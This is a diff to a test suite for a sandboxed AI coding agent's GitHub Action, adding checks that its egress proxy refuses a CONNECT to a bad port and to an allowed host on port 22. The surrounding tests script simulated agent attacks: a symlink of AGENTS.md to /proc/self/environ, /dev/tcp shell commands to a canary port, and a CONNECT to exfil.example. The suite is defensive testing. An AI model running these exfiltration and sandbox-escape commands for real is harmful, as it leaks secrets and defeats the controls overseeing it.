@@ -138,6 +138,12 @@ describeWithSandbox("the agent's attacks, sandboxed, through the bundled Action"
       await rm(join(scratch, "AGENTS.md"));
       await symlink("../../../../../../../../proc/self/environ", join(scratch, "AGENTS.md"));
       await writeFile(join(scratch, "CLAUDE.md"), "Use tabs.\n");
+      // One allowed host, so that the proxy's port rule is what refuses it on another port.
+      await mkdir(join(scratch, ".github"), { recursive: true });
+      await writeFile(
+        join(scratch, ".github", "locus.yml"),
+        'version: 3\nsandbox:\n  network:\n    allow: ["allowed.example"]\n',
+      );
     });
     await mkdir(fileCommands(), { recursive: true });
     for (const file of ["set_env_1", "add_path_1", "save_state_1"])
@@ -170,6 +176,13 @@ describeWithSandbox("the agent's attacks, sandboxed, through the bundled Action"
         shell(`(exec 3<>/dev/tcp/127.0.0.1/${canaryPort} && cat <&3) > leak-canary.txt 2>&1; echo`),
         shell(
           "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT exfil.example:443 HTTP/1.1\\r\\n\\r\\n' >&3; head -c 12 <&3 > leak-proxy.txt; echo",
+        ),
+        // A port out of range once threw in the Action's own process and ended the run.
+        shell(
+          "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT registry.npmjs.org:99999 HTTP/1.1\\r\\n\\r\\n' >&3; head -c 12 <&3 > proxy-bad-port.txt; echo",
+        ),
+        shell(
+          "exec 3<>/dev/tcp/127.0.0.1/3128; printf 'CONNECT allowed.example:22 HTTP/1.1\\r\\n\\r\\n' >&3; head -c 12 <&3 > proxy-port-22.txt; echo",
         ),
       ),
       reply(
@@ -238,6 +251,14 @@ describeWithSandbox("the agent's attacks, sandboxed, through the bundled Action"
     expect(canaryHits).toBe(0);
     expect(await h.show(branch, "leak-proxy.txt")).toMatch(/403|Forbidden|ERR|Error/i);
     expect(run.summary).toMatch(/\| `exfil\.example` \| 1 \|/);
+  });
+
+  it("gets a 400 for a port out of range and a 403 for an allowed host on another port, and the run goes on", async () => {
+    const branch = `locus/issue-${issue}`;
+    expect(await h.show(branch, "proxy-bad-port.txt")).toBe("HTTP/1.1 400");
+    expect(await h.show(branch, "proxy-port-22.txt")).toBe("HTTP/1.1 403");
+    expect(run.summary).toMatch(/\| `allowed\.example:22` \| 1 \|/);
+    expect(run.outputs["status"]).toBe("succeeded");
   });
 
   it("reads instruction files from git's objects: symlinks to /proc are refused, the next file is used", () => {
